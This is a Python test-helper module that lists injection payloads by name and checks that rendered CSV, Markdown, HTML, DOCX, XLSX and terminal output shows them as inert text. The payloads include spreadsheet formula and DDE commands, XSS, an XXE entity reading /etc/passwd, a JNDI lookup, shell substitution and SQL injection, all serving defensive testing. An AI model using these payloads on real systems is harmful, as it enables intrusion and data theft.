"""Hostile names: what each attacks, and what a document looks like to which one of them did something.

A name is to be shown as the text it is, in every format. That is held in two ways: no character in a document acts
without being seen, and a document with hostile names is built exactly as one with harmless names.
"""

import csv
import re
import unicodedata
from collections.abc import Callable, Iterator, Mapping
from html.parser import HTMLParser
from io import BytesIO, StringIO
from typing import Final
from xml.etree import ElementTree as ET
from zipfile import ZipFile

from markdown_it import MarkdownIt

HOSTILE: Final[Mapping[str, str]] = {
    "formula": "=1+1",
    "command": "=cmd|'/C calc'!A0",
    "hyperlink": '=HYPERLINK("http://example.invalid/?x="&A1,"点我")',
    "web query": '=WEBSERVICE("http://example.invalid/")',
    "plus": "+1+1",
    "minus": "-2+3",
    "lone minus": "-支部",
    "at sign": "@SUM(A1:A9)",
    "exchange of data": 'DDE("cmd";"/C calc";"x")',
    "wide equals": "＝1+2",
    "wide plus": "＋1+2",
    "wide minus": "－1+2",
    "wide at sign": "＠SUM(1)",
    "spaces before a formula": "  =2+2",
    "tab before a formula": "\t=3+3",
    "return before a formula": "\r=4+4",
    "line break before a formula": "\n=5+5",
    "quoted formula": '"=6+6',
    "quote and comma": 'a",=7+7,"',
    "semicolon before a formula": "a;=8+8",
    "apostrophe": "'=9+9",
    "script": "<script>alert(1)</script>",
    "end of a script": "</script><script>alert(2)</script>",
    "image": "<img src=x onerror=alert(3)>",
    "end of an attribute": '" onmouseover="alert(4)',
    "end of another": "' onmouseover='alert(5)",
    "drawing": "<svg/onload=alert(6)>",
    "comment": "<!-- 支部 -->",
    "comment in a script": "<!--<script>支部",
    "end of a section": "]]>支部<![CDATA[",
    "entities": "&lt;b&gt;&amp;&#60;i&#62;&nbsp;",
    "end of a title": "</title></style><b>支部",
    "processing": "<?php phpinfo() ?>",
    "document type": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "field of Word": '<w:fldSimple w:instr="DDEAUTO cmd"/>',
    "Rich markup": "[red]x[/]",
    "Rich link": "[link=http://example.invalid]x[/link]",
    "end of Rich markup": "[/red]支部[/]",
    "Rich escape": "\\[bold]支部",
    "emoji": ":smile: :boom:",
    "colour": "\x1b[31m红\x1b[0m",
    "clear the screen": "\x1b[2J\x1b[H支部",
    "title of the window": "\x1b]0;支部\x07",
    "link of a terminal": "\x1b]8;;http://example.invalid\x1b\\支部\x1b]8;;\x1b\\",
    "bell": "铃\x07部",
    "backspace": "支部\x08\x08伪",
    "NUL": "零\x00部",
    "DEL": "删\x7f部",
    "C1 control": "支\x9b31m部",
    "next line": "下\x85部",
    "vertical tab": "竖\x0b部\x0c末",
    "right to left": "支\u202exslx.exe",
    "isolates": "\u2066隔\u2067部\u2069",
    "marks of direction": "支\u200e部\u200f末",
    "no width": "零\u200b部\u200d末\u2060",
    "soft hyphen": "软\u00ad部",
    "byte order mark": "支\ufeff部\ufeff内",
    "tags": "标部\U000e0041\U000e007f",
    "annotations": "注\ufff9部\ufffa末\ufffb",
    "combining storm": "支" + "\u0301\u0316\u0489" * 60,
    "no character": "支\uffff部\ufffe",
    "half a character": "半\ud800部",
    "private use": "支\ue000部",
    "selectors of variants": "选\ufe00部\U000e0100末\u180b",
    "fillers": "填\u3164部\u115f末\u1160甲\uffa0",
    "blank of braille": "盲\u2800部",
    "joiner of graphemes": "连\u034f部",
    "vowels that show nothing": "元\u17b4部\u17b5末",
    "unassigned": "未\u0378部\U000e0fff",
    "null of music": "谱\U0001d159部",
    "other spaces": "宽\u2003部\u200a末\u202f甲\u00a0乙",
    "line separator": "行\u2028部",
    "paragraph separator": "段\u2029部",
    "line break": "换\n部",
    "Windows line break": "回\r\n部末",
    "long": "长" * 5000,
    "long without a break": "x" * 5000,
    "table of Markdown": "a | b || c",
    "code of Markdown": "`a` ``b``",
    "link of Markdown": "[x](javascript:alert(7))",
    "web link of Markdown": "[x](http://example.invalid)",
    "reference of Markdown": "[x]: http://example.invalid",
    "picture of Markdown": "![x](http://example.invalid/x.png)",
    "autolink": "<javascript:alert(8)>",
    "heading of Markdown": "# 支部",
    "emphasis": "**支** __部__ ~~末~~",
    "list of Markdown": "- 列表",
    "numbered list": "1. 支部",
    "quotation": "> 支部",
    "rule": "---甲",
    "underline of a heading": "===甲",
    "escape of Markdown": "支部\\",
    "up": "../../etc/支部",
    "root": "/etc/passwd",
    "Windows path": "C:\\Windows\\支部",
    "share": "\\\\server\\支部",
    "device": "con",
    "device with a suffix": "nul.txt",
    "serial port": "COM1.支部",
    "points at the end": "支部...",
    "two points": "..甲",
    "home": "~/支部",
    "home of somebody": "~root",
    "dash": "-rf",
    "two dashes": "--help",
    "wildcards": "支*部?",
    "stream of a file": "支部:秘密",
    "quotation marks": "号\"部'末",
    "shell": "$(reboot) `reboot` ;reboot&|",
    "variables": "%PATH% $HOME ${HOME}",
    "sheet": "'[]:*?/\\'甲",
    "sheet of another": "[x.xlsx]表!A1",
    "apostrophes of a sheet": "'引部'",
    "history": "History",
    "escape of Excel": "支_x000D_部",
    "control of Excel": "支_x001B_部",
    "escape of an escape": "支_x005F_x000D_部",
    "template of JavaScript": "${alert(9)}",
    "template of a page": "{{7*7}} {% x %} <%= 7*7 %>",
    "sentence of ours": "[{unit}]",
    "term of ours": "{x!t} {reason!t} {0} {}",
    "braces": "{甲",
    "per cents": "%s %d %n %(x)s",
    "logging": "${jndi:ldap://example.invalid/x}",
    "query": "'; DROP TABLE 支部; --",
    "null": "null甲",
    "prototype": "__proto__",
    "constructor": "constructor",
    "number": "1e5甲",
    "not a number": "NaN甲",
    "true": "TRUE",
    "date": "1-2",
    "leading zeros": "007",
}
"""By what each attacks."""

HARMLESS: Final[Mapping[str, str]] = {attack: f"单位{at}" for at, attack in enumerate(HOSTILE, start=1)}

_LINE_BREAKS: Final = "\n"
_NUMBER: Final = re.compile(r"[+-]?\d+(?:\.\d+)?")
_STARTS_FORMULA: Final = tuple("=+-@＝＋－＠\t\r")
_ESCAPED: Final = re.compile("_x([0-9A-Fa-f]{4})_")
_COLOUR: Final = re.compile(r"\x1b\[[0-9;]*m")


_NOTHING: Final = "\u034f\u115f\u1160\u17b4\u17b5\u180b\u2800\u3164\ufe00\uffa0\U0001d159\U000e0100"
"""What the names above have that shows nothing and is a letter, a mark or a symbol to Unicode."""


def seen(name: str) -> str:
    """Say how a name looks: as it is, but for what acts unseen, and for how wide its spaces are.

    Of accents on one letter three are left.
    """
    shown, high = "", 0
    for char in name:
        category = unicodedata.category(char)
        high = high + 1 if category in ("Mn", "Me") and char not in _NOTHING else 0
        if char in "\t\n\r" or category == "Zs":
            shown += " "
        else:
            shown += f"[U+{ord(char):04X}]" if _acts(char) or high > 3 else char
    return _spaced(shown)


def _spaced(text: str) -> str:
    return " ".join(text.split())


def _acts(char: str) -> bool:
    odd_space = unicodedata.category(char) == "Zs" and char not in " \u3000"
    return unicodedata.category(char) in ("Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp") or char in _NOTHING or odd_space


def acting(text: str) -> list[str]:
    """List the characters that act without being seen."""
    return sorted({f"U+{ord(one):04X}" for one in text if one not in _LINE_BREAKS and _acts(one)})


class Looked:
    """A document looked at: how it is built, and the texts that it shows."""

    def __init__(self, built: list[str], texts: list[str]) -> None:
        self.built = built
        self.texts = [_spaced(text) for text in texts]
        self.shown = "\n".join(self.texts)
        self.acting = acting("".join(texts))


def looked_at(form: str, data: bytes) -> Looked:
    """Look at a document of some format; a new format needs a look of its own."""
    return _LOOKS[form](data)


def _screen(data: bytes) -> Looked:
    """Screens have colours of ours and nothing else."""
    return Looked([], _COLOUR.sub("", data.decode()).split("\n"))


def _json(data: bytes) -> Looked:
    """What a program reads is data, and is compared by it; the text is sound and does nothing to a screen."""
    return Looked([], data.decode().split("\n"))


def _csv(data: bytes) -> Looked:
    text = data.decode("utf-8-sig")
    rows = list(csv.reader(StringIO(text, newline=""), strict=True))
    cells = [cell for row in rows for cell in row]
    formulas = [cell for cell in cells if cell.startswith(_STARTS_FORMULA) and not _NUMBER.fullmatch(cell)]
    own = [cell[1:] if cell[:1] == "'" and cell[1:].lstrip().startswith(_STARTS_FORMULA) else cell for cell in cells]
    return Looked([*(str(len(row)) for row in rows), *formulas], [*cells, *own])


def _md(data: bytes) -> Looked:
    page = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    tokens = page.parse(data.decode())
    built = [f"{token.type} {token.tag}" for token in tokens]
    built += [child.type for token in tokens for child in token.children or () if child.type != "text"]
    texts = ["".join(child.content for child in token.children or ()) for token in tokens if token.type == "inline"]
    return Looked(built, texts)


class _Page(HTMLParser):
    """Tags with the names of their attributes, comments and scripts; and what is to be read.

    Marks of the language of a text (`lang`, `bdi`) follow the text, and are left out.
    """

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.built: list[str] = []
        self.texts: list[str] = [""]
        self._raw = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "bdi":
            return
        self.built.append(f"<{tag} {' '.join(name for name, _ in attrs if name != 'lang')}>")
        active = ("href", "src", "style", "action", "formaction", "srcdoc")
        leads = (f"{name}={value}" for name, value in attrs if name in active or name.startswith("on"))
        self.built.extend(re.sub(r"\d+", "0", one) for one in leads)
        self.texts.extend(value or "" for _, value in attrs)
        self._raw = tag if tag in ("script", "style") else ""
        self.texts.append("")

    def handle_endtag(self, tag: str) -> None:
        if tag == "bdi":
            return
        self.built.append(f"</{tag}>")
        self._raw = ""
        self.texts.append("")

    def handle_comment(self, data: str) -> None:
        self.built.append(f"<!--{data}-->")

    def handle_pi(self, data: str) -> None:
        self.built.append(f"<?{data}>")

    def unknown_decl(self, data: str) -> None:
        self.built.append(f"<![{data}")

    def handle_data(self, data: str) -> None:
        if self._raw:
            self.built.append(f"{self._raw}: {data.count('<')}")
        self.texts[-1] += data


def _html(data: bytes) -> Looked:
    page = _Page()
    page.feed(data.decode())
    page.close()
    return Looked(page.built, page.texts)


def _parts(data: bytes) -> Iterator[tuple[str, ET.Element]]:
    with ZipFile(BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.endswith((".xml", ".rels")):
                yield name, ET.fromstring(archive.read(name))  # noqa: S314  written by us


def _local(name: str) -> str:
    return name.rpartition("}")[2]


def _docx(data: bytes) -> Looked:
    built, texts = list[str](), list[str]()
    for part, root in _parts(data):
        built.append(part)
        for element in root.iter():
            tag = _local(element.tag)
            built.append(f"{tag} {' '.join(sorted(map(_local, element.attrib)))}")
            built.extend(f"{key}={element.attrib[key]}" for key in element.attrib if _local(key) in ("Target", "instr"))
            texts.append("".join(element.itertext()) if tag in ("p", "title", "subject") else "")
    return Looked(built, texts)


_LOOKS_ONLY: Final = ("r", "rPr", "font", "sz", "color", "rFont", "family", "charset", "scheme", "col", "pt", "v")
"""Elements that say how a text is set and how wide a column is, or repeat what cells hold."""


def _xlsx(data: bytes) -> Looked:
    """Formulas and links are elements; a text is read as Excel does, which undoes its escapes."""
    built, texts = list[str](), list[str]()
    for part, root in _parts(data):
        strings = _local(root.tag) == "sst"
        built += (
            [part] if strings else [part, *(_element(one) for one in root.iter() if _local(one.tag) not in _LOOKS_ONLY)]
        )
        for element in root.iter():
            if _local(element.tag) in ("si", "is", "text", "title"):
                texts.append("".join(_ESCAPED.sub(lambda one: chr(int(one[1], 16)), one) for one in element.itertext()))
            texts.extend(value for key, value in element.attrib.items() if _local(key) in ("name", "prompt", "error"))
    return Looked(built, [text.replace("[U+005F]", "_") for text in texts])  # written out where escapes are chained


def _element(element: ET.Element) -> str:
    """Name an element, of a cell with its type, of a link or formula with where it leads."""
    tag = _local(element.tag)
    told = {key: value for key, value in element.attrib.items() if _local(key) in ("t", "Target", "Type")}
    inside = element.text if tag in ("f", "formula", "formula1", "formula2", "definedName") else ""
    return f"{tag} {sorted(told.items())} {inside}"


_LOOKS: Final[Mapping[str, Callable[[bytes], Looked]]] = {
    "screen": _screen,
    "json": _json,
    "csv": _csv,
    "md": _md,
    "html": _html,
    "docx": _docx,
    "xlsx": _xlsx,
}
